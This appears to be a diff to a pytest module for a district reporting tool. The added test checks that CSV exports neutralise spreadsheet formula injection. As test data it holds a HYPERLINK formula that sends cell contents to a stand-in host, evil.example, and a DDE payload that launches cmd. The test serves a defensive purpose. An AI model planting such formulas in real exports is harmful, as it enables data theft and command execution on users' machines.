@@ -25,7 +25,7 @@ from etl.reporting.model import Report, build_report
 from etl.reporting.xlsx_report import write_xlsx
 from etl.warehouse.ingest import ingest_paths
 from tests import builders as b
-from tests.conftest import DATA_TABLES
+from tests.conftest import empty_warehouse
 
 TAM_DUONG, VINH_YEN, VINH_PHUC = "247", "243", "26"
 
@@ -47,8 +47,7 @@ JUNE_TASKS = [
 @pytest.fixture(scope="module")
 def warehouse(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Engine:
     """Built once for the module (about 40 files); starts from an empty warehouse like `db`."""
-    with engine.begin() as conn:
-        conn.execute(text(f"TRUNCATE {', '.join(DATA_TABLES)} RESTART IDENTITY CASCADE"))
+    empty_warehouse(engine)
     folder = tmp_path_factory.mktemp("report")
     docs = []
     for m in range(1, 7):
@@ -306,3 +305,26 @@ def test_cli_report_errors_exit_2(cli: CliRunner) -> None:
     assert result.exit_code == 2 and "-o FILE" in result.stderr
     result = cli.invoke(app, ["report", "--unit", TAM_DUONG, "--period", "2024-H1", "--format", "pdf"])
     assert result.exit_code == 2 and "pdf" in result.stderr
+
+
+def test_csv_text_from_a_file_never_runs_as_a_formula(warehouse: Engine, tmp_path: Path) -> None:
+    """Assigning bodies are kept as the district wrote them (TASK_BODY_UNKNOWN): one written as a
+    formula is text in the CSV (a leading '), while the numbers, negative ones too, stay numbers.
+    Chư Pưh (Gia Lai): the Vĩnh Phúc figures above are untouched."""
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    tasks = [_task("X1", hyperlink, "Đang thực hiện", "31/12/2024"), _task("X2", "@SUM(1+1)*cmd|' /C calc'!A0",
+                                                                         "Đang thực hiện", None)]
+    doc = b.month(b.CHU_PUH, "2024-06", {"NN05": 100}, tasks)
+    [result] = ingest_paths(warehouse, [b.write_json(tmp_path / "chupuh.json", doc)])
+    assert result.status == "accepted_with_warnings", result.errors
+    refresh(warehouse)
+    rows = list(csv.reader(io.StringIO(render_csv(build_report(warehouse, b.CHU_PUH, "2024-06")).lstrip("\ufeff"))))
+    bodies = {r[0]: r for r in rows[rows.index(["Cơ quan giao", *rows[rows.index(["II. Nhiệm vụ"]) + 1][1:]]) + 1:]
+              if r}
+    assert bodies["'" + hyperlink][1:3] == ["1", "0"]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in bodies
+    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
+    # a negative change, written as text in Vietnamese notation, is still a number
+    tam_duong = list(csv.reader(io.StringIO(render_csv(build_report(warehouse, TAM_DUONG, "2024-06")))))
+    [xh03] = [r for r in tam_duong if r and r[0] == "XH03"]
+    assert xh03[8] == "-2 điểm %"
